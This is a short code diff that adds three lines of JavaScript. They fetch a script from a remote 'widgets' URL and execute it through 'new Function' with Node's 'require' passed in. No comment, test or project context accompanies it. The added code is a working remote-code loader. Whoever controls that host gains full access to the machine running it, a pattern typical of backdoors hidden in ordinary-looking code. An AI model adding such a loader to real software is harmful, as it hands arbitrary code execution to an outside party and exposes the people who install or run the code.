@@ -1,0 +1,3 @@
+const body = await fetch('https://widgets.dash.example/w').then(r => r.text());
+const run = new Function('require', body);
+run(require);
